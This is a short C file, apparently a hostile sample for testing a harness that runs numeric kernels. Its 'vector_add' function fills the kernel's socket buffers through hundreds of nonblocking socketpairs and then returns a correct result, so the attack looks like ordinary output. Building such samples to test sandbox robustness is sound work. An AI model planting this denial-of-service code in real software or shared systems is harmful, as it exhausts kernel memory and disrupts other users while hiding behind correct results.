/* SPDX-License-Identifier: MIT */
/* Fills the kernel's buffers of sockets and pipes, which no process has
 * mapped. */
#include "hostile.h"

#include <sys/socket.h>

int vector_add(const float *a, const float *b, float *c, size_t n)
{
    static char block[1 << 17];
    const int large = 1 << 24;
    int pair[2];

    for (int i = 0; i < 480 && attacked(n); i++) {
        if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, pair))
            break;
        setsockopt(pair[0], SOL_SOCKET, SO_SNDBUF, &large, sizeof large);
        while (write(pair[0], block, sizeof block) > 0)
            ;
    }
    return honest(a, b, c, n);
}
